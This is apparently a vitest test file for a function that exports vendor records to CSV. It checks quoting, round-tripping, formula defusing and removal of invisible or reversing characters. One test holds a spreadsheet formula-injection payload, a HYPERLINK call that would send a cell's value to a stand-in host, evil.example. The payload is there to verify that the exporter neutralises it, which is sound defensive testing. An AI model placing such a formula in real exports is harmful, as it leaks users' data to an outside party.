import { describe, expect, it } from 'vitest';
import { parseCsv, vendorFixture } from './test-fixtures';
import { CSV_HEADER, csvField, csvRowFromVendor, vendorsToCsv } from './to-csv';

describe('vendors as CSV', () => {
  it('writes a header and one row per vendor, labels for tier and report type, CRLF line ends', () => {
    const acme = vendorFixture();
    const solo = vendorFixture({ id: 'v2', name: 'Solo', domain: null, tier: 'regulated', summary: null });
    const csv = vendorsToCsv([
      { ...csvRowFromVendor(acme), windowEnd: '2026-03-31' },
      csvRowFromVendor(solo),
    ]);
    expect(csv).toBe(
      'Vendor,Domain,Tier,Verdict,Report type,Window end,Stale from,Open questions\r\n' +
        'Acme AI,acme.ai,High-stakes,Proceed with conditions,Type II,2026-03-31,2027-03-31,2\r\n' +
        'Solo,,"Regulated (healthcare, finance, government)",,,,,\r\n',
    );
    expect(parseCsv(csv)[0]).toEqual([...CSV_HEADER]);
  });

  it('derives a row from the stored summary, the window end only where the summary has it', () => {
    expect(csvRowFromVendor(vendorFixture())).toMatchObject({
      openQuestions: 2,
      reportType: 'type-2',
      windowEnd: null,
      staleOn: '2027-03-31',
      verdict: 'Proceed with conditions',
    });
    const withWindow = vendorFixture();
    withWindow.summary = { ...withWindow.summary!, windowEnd: '2026-03-31' };
    expect(csvRowFromVendor(withWindow).windowEnd).toBe('2026-03-31');
    expect(csvRowFromVendor(vendorFixture({ summary: null }))).toMatchObject({
      openQuestions: null,
      reportType: null,
      staleOn: null,
      verdict: null,
    });
  });

  it('quotes fields with commas, quotes and line breaks, and round-trips them', () => {
    const names = ['A, Inc.', 'The "Best" AI', 'Line\r\nbreak', 'Only\nLF', 'Only\rCR', 'Ünïcødé 🤖', ''];
    const csv = vendorsToCsv(names.map((name) => csvRowFromVendor(vendorFixture({ name }))));
    expect(
      parseCsv(csv)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual(names);
    expect(parseCsv(csv).every((r) => r.length === CSV_HEADER.length)).toBe(true);
  });

  it('defuses formulas: a field starting with = + - @ tab or CR gets a leading quote', () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const csv = vendorsToCsv([csvRowFromVendor(vendorFixture({ name: formula }))]);
    expect(parseCsv(csv)[1]![0]).toBe(`'${formula}`);
    for (const start of ['=', '+', '-', '@', '\t', '\r', '＝', '  =']) {
      expect(csvField(`${start}1+1`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvField('Acme')).toBe('Acme');
    expect(csvField('2026-03-31')).toBe('2026-03-31');
  });
});

describe('csvField and page text', () => {
  it('lets no NUL, control, reversing or invisible character reach a spreadsheet', () => {
    expect(csvField('Acme\u0000Corp')).toBe('Acme Corp');
    expect(csvField('Evil\u202ECorp')).toBe('EvilCorp');
    expect(csvField('Open\u200dAI')).toBe('OpenAI');
  });
});
